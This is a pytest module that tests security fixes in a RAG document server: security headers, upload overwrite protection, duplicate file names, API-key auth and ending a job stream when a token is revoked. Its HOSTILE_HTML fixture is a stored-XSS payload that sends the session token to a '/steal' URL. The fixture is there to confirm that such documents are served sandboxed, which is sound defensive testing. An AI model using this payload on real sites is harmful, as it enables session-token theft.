"""Issue 43, items 1-7 and 19, on the real servers: a document never runs in the page's
origin, the page and the API carry their security headers, an upload never replaces a
document its sender may not change, two files of one request never become one document,
a folder source reads .acl files as ``hybrid-rag ingest`` does, a rotated token or a
disabled user ends an open job stream, /kb takes ``x-api-key`` as the graphs do, and
``hybrid-rag serve`` resolves a relative users file where it was given.

langgraph dev (tests/langgraph_server.py) for everything; the production server (Aegra
with PostgreSQL, tests/production_server.py) for the headers and the overwrite rule.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from cli.serve_command import server_environment
from tests.langgraph_server import LocalServer, serving
from tests.ports import free_port
from tests.production_server import Production, production_env
from tests.servers import PostgresServer
from tests.test_documents_api import doc_url, wait_job
from tools.access.users import USERS_FILE_ENV, add_user
from tools.access.users_file import rotate_token, set_disabled
from tools.kb.documents.catalog import Catalog, JobFile

STREAM_END_S = 15.0  # the stream re-checks the caller every 0.3 s
USERS = (("alice", ["hr"], False), ("bob", ["sales"], False), ("carol", ["hr"], False),
         ("root", [], True), ("dave", ["hr"], False), ("erin", ["hr"], False))  # fmt: skip
PAY = b"# Pay bands\n\nThe HR pay band review code is ORCA-41.\n"
FORGED = b"# Pay bands\n\nEveryone gets a raise, says bob. Code SHARK-9.\n"


def make_users(base: Path) -> tuple[Path, dict[str, str]]:
    users = base / "users.json"
    tokens = {name: add_user(users, name, groups, admin=admin) for name, groups, admin in USERS}
    return users, tokens


@pytest.fixture(scope="module")
def dev(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LocalServer, dict[str, str]]]:
    base = tmp_path_factory.mktemp("docsec")
    users, tokens = make_users(base)
    home = base / "home"
    home.mkdir()
    with serving(home, base / "langgraph-dev.log", {USERS_FILE_ENV: str(users)}) as srv:
        yield srv, {**tokens, "_users": str(users)}


def client(url: str, token: str, *, api_key: bool = False) -> httpx.Client:
    header = {"x-api-key": token} if api_key else {"Authorization": f"Bearer {token}"}
    return httpx.Client(base_url=url, headers=header, timeout=60)


def upload(c: httpx.Client, files: list[tuple[str, bytes]], **fields: str) -> httpx.Response:
    parts = [("file", (name, data)) for name, data in files]
    return c.post("/kb/uploads", files=parts, data=fields)


def uploaded(c: httpx.Client, files: list[tuple[str, bytes]], **fields: str) -> dict[str, Any]:
    r = upload(c, files, **fields)
    assert r.status_code == 202, r.text
    return wait_job(c, r.json()["job_id"])


# -- items 2 and 3, on both servers ------------------------------------------------------


def check_headers(url: str, tokens: dict[str, str]) -> None:
    """The page, the API and an original each carry their security headers."""
    page = httpx.get(f"{url}/ui/", timeout=30)
    script = httpx.get(f"{url}/ui/app.js", timeout=30)
    for r in (page, script, httpx.get(f"{url}/ui", timeout=30)):
        csp = r.headers.get("content-security-policy", "")
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp, (r.url, csp)
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert r.headers.get("x-content-type-options") == "nosniff", r.url
        assert r.headers.get("referrer-policy") == "no-referrer", r.url
    with client(url, tokens["alice"]) as alice:
        job = uploaded(alice, [("hr-policy.html", HOSTILE_HTML)], folder="headers", acl="group:hr")
        assert job["state"] == "done", job
        for path in ("/kb/documents", doc_url("upload:headers/hr-policy.html", "/original")):
            r = alice.get(path)
            assert r.status_code == 200, r.text
            csp = r.headers.get("content-security-policy", "")
            assert "sandbox" in csp and "frame-ancestors 'none'" in csp, (path, csp)
            assert r.headers.get("x-content-type-options") == "nosniff"
            assert r.headers.get("referrer-policy") == "no-referrer"
        # An active type is never shown by the browser: an attachment, sandboxed.
        assert r.headers["content-disposition"].startswith("attachment"), r.headers
        assert r.content == HOSTILE_HTML
        denied = alice.get("/kb/documents", headers={"Authorization": "Bearer wrong"})
        assert denied.status_code == 401
        assert "sandbox" in denied.headers.get("content-security-policy", "")


def check_no_overwrite(url: str, tokens: dict[str, str], folder: str, home: Path) -> None:
    """bob (sales) sends alice's hr/pay.md again: 403, and nothing of hers changes."""
    alice, bob, carol = (client(url, tokens[u]) for u in ("alice", "bob", "carol"))
    pay_id = f"upload:{folder}/pay.md"
    with alice, bob, carol:
        assert uploaded(alice, [("pay.md", PAY)], folder=folder, acl="group:hr")["state"] == "done"
        before = alice.get(doc_url(pay_id)).json()
        refused = upload(bob, [("pay.md", FORGED)], folder=folder)
        assert refused.status_code == 403, refused.text
        assert f"{folder}/pay.md" in refused.json()["error"]
        assert alice.get(doc_url(pay_id)).json() == before  # owner, acl, version, bytes
        for reader in (alice, carol):
            assert reader.get(doc_url(pay_id, "/original")).content == PAY
        chunks = carol.get(doc_url(pay_id, "/chunks")).json()["chunks"]
        assert "ORCA-41" in chunks[0]["text"] and "SHARK" not in json.dumps(chunks)
        assert bob.get(doc_url(pay_id)).status_code == 404  # still not his to read
        # Her stored original is still on disk; bob's upload stored nothing.
        stored = [p.read_bytes() for p in (home / "originals").rglob("*.md")]
        assert PAY in stored and FORGED not in stored
        # Its owner may send it again (a new version), as PUT allows.
        again = uploaded(alice, [("pay.md", PAY + b"\nRevised.\n")], folder=folder, acl="group:hr")
        assert again["state"] == "done", again


def test_headers_and_no_overwrite_on_langgraph_dev(dev: tuple[LocalServer, dict[str, str]]) -> None:
    srv, tokens = dev
    check_headers(srv.url, tokens)
    check_no_overwrite(srv.url, tokens, "hr", srv.home)


def test_headers_and_no_overwrite_on_the_production_server(
    postgres_server: PostgresServer, tmp_path: Path
) -> None:
    pytest.importorskip("aegra_api", reason="the production server (aegra-api) is not installed")
    users, tokens = make_users(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    database = postgres_server.create_database("docsec")
    env = production_env(home, database, users)
    server = Production(f"http://127.0.0.1:{free_port()}", env, tmp_path / "aegra.log")
    server.start()
    try:
        check_headers(server.url, tokens)
        check_no_overwrite(server.url, tokens, "hr", home)
    finally:
        server.stop()


# -- items 4, 6, 7 -----------------------------------------------------------------------


def test_files_of_one_name_in_one_request(dev: tuple[LocalServer, dict[str, str]]) -> None:
    srv, tokens = dev
    files = [("dup.md", b"# One\n\nFirst copy LYNX-1.\n"), ("dup.md", b"# Two\n\nSecond LYNX-2.\n"),
             ("sub/dup.md", b"# Three\n\nThird copy LYNX-3.\n")]  # fmt: skip
    with client(srv.url, tokens["alice"]) as alice:
        job = uploaded(alice, files, folder="dups")
        status = [(f["path"], f["status"]) for f in job["files"]]
        assert status == [("dups/dup.md", "done"), ("dups/dup.md", "failed"),
                          ("dups/sub/dup.md", "done")], job  # fmt: skip
        assert "already a file of this upload" in job["files"][1]["reason"]
        listed = alice.get("/kb/documents", params={"prefix": "dups/"}).json()["documents"]
        assert sorted(d["path"] for d in listed) == ["dups/dup.md", "dups/sub/dup.md"]
        text = json.dumps(alice.get(doc_url("upload:dups/sub/dup.md", "/chunks")).json())
        assert "LYNX-3" in text
        text = json.dumps(alice.get(doc_url("upload:dups/dup.md", "/chunks")).json())
        assert "LYNX-1" in text and "LYNX-2" not in text


def test_kb_takes_x_api_key_as_the_graphs_do(dev: tuple[LocalServer, dict[str, str]]) -> None:
    srv, tokens = dev
    with client(srv.url, tokens["alice"], api_key=True) as alice:
        assert alice.get("/kb/documents").status_code == 200
        assert alice.post("/threads/search", json={"limit": 1}).status_code == 200
    with client(srv.url, "not-a-token", api_key=True) as nobody:
        assert nobody.get("/kb/documents").status_code == 401


def open_job(home: Path, owner: str) -> str:
    """A job that stays queued (no runner has it; its process, this one, is alive)."""
    [path] = (home / "catalog").glob("*.sqlite")
    catalog = Catalog(path)
    job = catalog.new_job("upload", owner, [JobFile("slow.md", "slow.md", "upload:slow.md")])
    catalog.close()
    return job.job_id


def stream_ends_after(srv: LocalServer, token: str, job_id: str, revoke: Any) -> list[str]:
    """The lines of the job's event stream from the first event until it ends, with
    ``revoke()`` called after the first event; fails when it does not end."""
    lines: list[str] = []
    timeout = httpx.Timeout(STREAM_END_S, connect=10)
    url = f"{srv.url}/kb/jobs/{job_id}/events"
    with httpx.stream("GET", url, headers={"Authorization": f"Bearer {token}"},
                      timeout=timeout) as r:  # fmt: skip
        assert r.status_code == 200, r.read()
        started = None
        for line in r.iter_lines():
            lines.append(line)
            if started is None and line.startswith("data:"):
                revoke()
                started = time.monotonic()
            assert started is None or time.monotonic() - started < STREAM_END_S, lines
    return lines


def test_revocation_ends_an_open_job_stream(dev: tuple[LocalServer, dict[str, str]]) -> None:
    srv, tokens = dev
    users = Path(tokens["_users"])
    with client(srv.url, tokens["dave"]) as dave:
        assert dave.get("/kb/documents").status_code == 200  # the catalog exists
    for who, revoke in (("dave", lambda: rotate_token(users, "dave")),
                        ("erin", lambda: set_disabled(users, "erin", True))):  # fmt: skip
        lines = stream_ends_after(srv, tokens[who], open_job(srv.home, who), revoke)
        assert "event: error" in lines, lines
        error = json.loads(lines[lines.index("event: error") + 1].removeprefix("data: "))
        assert error["status"] == 401, error


# -- item 19 -----------------------------------------------------------------------------


def test_serve_resolves_a_relative_users_file_where_it_was_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    env = server_environment({USERS_FILE_ENV: "team/users.json", "X": "1"}, tmp_path / "home")
    assert env[USERS_FILE_ENV] == str(tmp_path / "team" / "users.json")
    assert env["HYBRID_RAG_HOME"] == str(tmp_path / "home") and env["X"] == "1"
    absolute = server_environment({USERS_FILE_ENV: "/etc/u.json"}, tmp_path)
    assert absolute[USERS_FILE_ENV] == "/etc/u.json"
    assert USERS_FILE_ENV not in server_environment({}, tmp_path)
    assert os.getcwd() == str(tmp_path)


HOSTILE_HTML = (
    b"<!doctype html><title>HR policy</title><h1>HR policy</h1>"
    b"<p>Annual leave is 25 days for HR staff.</p>"
    b"<img src=x onerror=\"new Image().src='http://127.0.0.1:9/steal?t='"
    b"+sessionStorage.getItem('hybrid-rag-token')\">"
)
